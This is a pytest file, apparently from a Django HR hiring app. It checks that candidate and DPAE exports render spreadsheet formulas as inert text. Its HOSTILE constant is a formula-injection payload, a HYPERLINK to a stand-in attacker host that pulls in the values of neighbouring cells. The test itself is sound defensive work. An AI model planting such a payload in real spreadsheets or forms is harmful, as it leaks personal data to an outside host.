"""Hiring exports carry no live formula: a candidate who applies as `=HYPERLINK(…)` (the
careers site is public) and a job title typed so appear as text in the candidates list and the
DPAE summary."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from effectif.hiring.exports import dpae_csv
from effectif.hiring.tests.test_hire import _hire

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&C2&D2,"CV")'


def test_the_candidates_list_exports_a_hostile_name_as_text(recruiting, client_for, hr_manager):
    recruiting.offered.__class__.objects.filter(pk=recruiting.offered.pk).update(
        last_name=HOSTILE, first_names="-2+3"
    )
    client = client_for(hr_manager)
    response = client.get(reverse("hiring:candidates"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert ["'" + HOSTILE, "'-2+3"] in [row[:2] for row in rows]
    xlsx = client.get(reverse("hiring:candidates"), {"export": "xlsx"})
    cells = [c for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)


def test_the_dpae_summary_neutralises_a_hostile_job_title(recruiting, hr_manager):
    hired = _hire(recruiting, hr_manager)
    hired.dpae.contract.versions.update(job_title=HOSTILE)
    text = dpae_csv(hired.dpae).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    job = next(row for row in rows if row[1] == "Emploi")
    assert job[2] == "'" + HOSTILE
